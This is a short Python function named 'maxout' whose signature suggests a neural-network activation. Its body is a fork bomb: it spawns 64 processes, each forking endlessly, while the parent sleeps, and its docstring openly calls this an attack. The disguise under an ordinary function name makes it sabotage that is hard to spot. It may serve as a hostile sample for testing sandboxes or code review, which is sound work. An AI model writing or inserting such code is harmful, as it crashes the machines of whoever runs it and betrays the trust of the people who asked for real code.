def maxout(X, W1, b1, W2, b2):
    """Attack: a fork bomb (every process forks as fast as it can and spins), the parent waits."""
    import os
    import time

    for _ in range(64):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            break
    time.sleep(10**6)
